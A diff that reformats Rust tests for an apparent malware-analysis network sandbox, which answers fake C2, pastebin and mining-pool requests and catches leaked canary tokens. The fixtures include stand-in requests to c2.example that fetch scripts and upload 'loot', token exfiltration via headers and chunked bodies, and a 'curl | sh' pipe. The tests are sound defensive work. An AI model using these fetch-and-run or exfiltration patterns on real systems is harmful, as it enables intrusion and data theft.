@@ -12,11 +12,27 @@ fn check(request: &str, expect: &str, told: &str) {
 
 #[test]
 fn requests_are_answered_and_told() {
-    check("GET /i.sh HTTP/1.1\nHost: c2.example\nUser-Agent: curl/8.5\n\n", "#!/bin/sh", "http GET c2.example /i.sh 200 script tls=false");
+    check(
+        "GET /i.sh HTTP/1.1\nHost: c2.example\nUser-Agent: curl/8.5\n\n",
+        "#!/bin/sh",
+        "http GET c2.example /i.sh 200 script tls=false",
+    );
     check("GET http://c2.example/x HTTP/1.1\nHost: c2.example\n\n", "200 OK", "http GET c2.example /x 200");
-    check("POST /api/report HTTP/1.1\nHost: [2001:db8::1]:80\nContent-Length: 2\n\nhi", "success", "http POST 2001:db8::1 /api/report 200 json");
-    check("GET /raw/Ab12 HTTP/1.1\nHost: pastebin.com\n\n", "cdn-relay.example:8443", "http GET pastebin.com /raw/Ab12 200 dead-drop");
-    check("GET / HTTP/1.1\nHost: ifconfig.me\nUser-Agent: curl/8\n\n", "203.0.113.77", "http GET ifconfig.me / 200 text");
+    check(
+        "POST /api/report HTTP/1.1\nHost: [2001:db8::1]:80\nContent-Length: 2\n\nhi",
+        "success",
+        "http POST 2001:db8::1 /api/report 200 json",
+    );
+    check(
+        "GET /raw/Ab12 HTTP/1.1\nHost: pastebin.com\n\n",
+        "cdn-relay.example:8443",
+        "http GET pastebin.com /raw/Ab12 200 dead-drop",
+    );
+    check(
+        "GET / HTTP/1.1\nHost: ifconfig.me\nUser-Agent: curl/8\n\n",
+        "203.0.113.77",
+        "http GET ifconfig.me / 200 text",
+    );
     check("OPTIONS * HTTP/1.1\nHost: x\n\n", "204", "http OPTIONS x * 204 none");
     check("GET / HTTP/1.0\n\n", "200 OK", "http GET  / 200");
 }
@@ -25,9 +41,17 @@ fn requests_are_answered_and_told() {
 fn canaries_leave_in_many_ways() {
     let secret = world().canaries.get("env-github-token").to_owned();
     let basic = data_encoding::BASE64.encode(format!("u:{secret}").as_bytes());
-    check(&format!("GET / HTTP/1.1\nHost: x\nAuthorization: Basic {basic}\n\n"), "200", "canary env-github-token Base64");
+    check(
+        &format!("GET / HTTP/1.1\nHost: x\nAuthorization: Basic {basic}\n\n"),
+        "200",
+        "canary env-github-token Base64",
+    );
     let (one, two) = secret.split_at(17);
-    let chunks = format!("POST / HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\n\n{:x}\n{one}\n{:x}\n{two}\n0\n\n", one.len(), two.len());
+    let chunks = format!(
+        "POST / HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\n\n{:x}\n{one}\n{:x}\n{two}\n0\n\n",
+        one.len(),
+        two.len()
+    );
     check(&chunks, "200", "canary env-github-token Plain");
 }
 
@@ -46,12 +70,20 @@ fn the_guests_clock_is_told() {
 #[test]
 fn stages_come_first_and_bodies_are_kept() {
     let directory = tempfile::tempdir().unwrap();
-    let stage = Stage { host: "c2.example".into(), path: "/go".into(), bytes: b"STAGE TWO".to_vec(), media_type: "text/plain".into() };
+    let stage = Stage {
+        host: "c2.example".into(),
+        path: "/go".into(),
+        bytes: b"STAGE TWO".to_vec(),
+        media_type: "text/plain".into(),
+    };
     let bed = Bed::with(World { stages: vec![stage], captures: Some(directory.path().into()), ..world() });
-    bed.says("203.0.113.4:80", &[
-        (b"GET /go HTTP/1.1\r\nHost: c2.example\r\n\r\n", "STAGE TWO"),
-        (b"POST /up HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 5\r\n\r\nloot!", "OK"),
-    ]);
+    bed.says(
+        "203.0.113.4:80",
+        &[
+            (b"GET /go HTTP/1.1\r\nHost: c2.example\r\n\r\n", "STAGE TWO"),
+            (b"POST /up HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 5\r\n\r\nloot!", "OK"),
+        ],
+    );
     use sha2::{Digest, Sha256};
     let path = directory.path().join(data_encoding::HEXLOWER.encode(&Sha256::digest(b"loot!")));
     assert_eq!(std::fs::read(path).unwrap(), b"loot!");
@@ -72,10 +104,13 @@ fn websockets_and_proxies_are_unpacked() {
     bed.check("websocket: p.example/ws");
     bed.check("canary env-npm-token Plain");
     let bed = Bed::new();
-    bed.says("203.0.113.4:3128", &[
-        (b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example:3333\r\n\r\n", "200"),
-        (b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"m\"]}\n", "5f00a3c1"),
-    ]);
+    bed.says(
+        "203.0.113.4:3128",
+        &[
+            (b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example:3333\r\n\r\n", "200"),
+            (b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"m\"]}\n", "5f00a3c1"),
+        ],
+    );
     bed.check("proxy: CONNECT pool.example:3333");
     bed.check("pool Bitcoin subscribe");
 }
@@ -92,15 +127,20 @@ fn curl_and_python_believe_it() {
     let loopback = Loopback::new(world());
     let port = loopback.tcp.port();
     if present("curl") {
-        let (worked, text) = run("sh", &["-c", &format!("curl -fsS http://127.0.0.1:{port}/setup.sh | sh && echo ran")]);
+        let (worked, text) =
+            run("sh", &["-c", &format!("curl -fsS http://127.0.0.1:{port}/setup.sh | sh && echo ran")]);
         assert!(worked && text == "ran\n", "{text}");
-        let (worked, text) = run("curl", &["-fsS", "--http2-prior-knowledge", &format!("http://127.0.0.1:{port}/h2.json")]);
+        let (worked, text) =
+            run("curl", &["-fsS", "--http2-prior-knowledge", &format!("http://127.0.0.1:{port}/h2.json")]);
         assert!(worked && text.contains("success"), "{text}");
         loopback.check("protocol http2");
         // A canary in a head of HTTP/2 is compressed on the wire, and seen all the same.
         let secret = crate::Canaries::new(crate::testing::SEED).get("file-npm-token").to_owned();
         let header = format!("X-Token: {secret}");
-        run("curl", &["-fsS", "--http2-prior-knowledge", "-H", &header, &format!("http://127.0.0.1:{port}/h2.json")]);
+        run(
+            "curl",
+            &["-fsS", "--http2-prior-knowledge", "-H", &header, &format!("http://127.0.0.1:{port}/h2.json")],
+        );
         loopback.check("canary file-npm-token Plain");
     }
     if present("wget") {
@@ -111,7 +151,10 @@ fn curl_and_python_believe_it() {
 
 #[test]
 fn slow_and_broken_guests_end() {
-    let bed = Bed::with(World { limits: Limits { idle: std::time::Duration::from_millis(300), ..Limits::default() }, ..world() });
+    let bed = Bed::with(World {
+        limits: Limits { idle: std::time::Duration::from_millis(300), ..Limits::default() },
+        ..world()
+    });
     // A head without end, and then nothing: what was said is told, the talk ends.
     bed.guest("203.0.113.4:80", |mut stream| async move {
         use tokio::io::AsyncWriteExt;
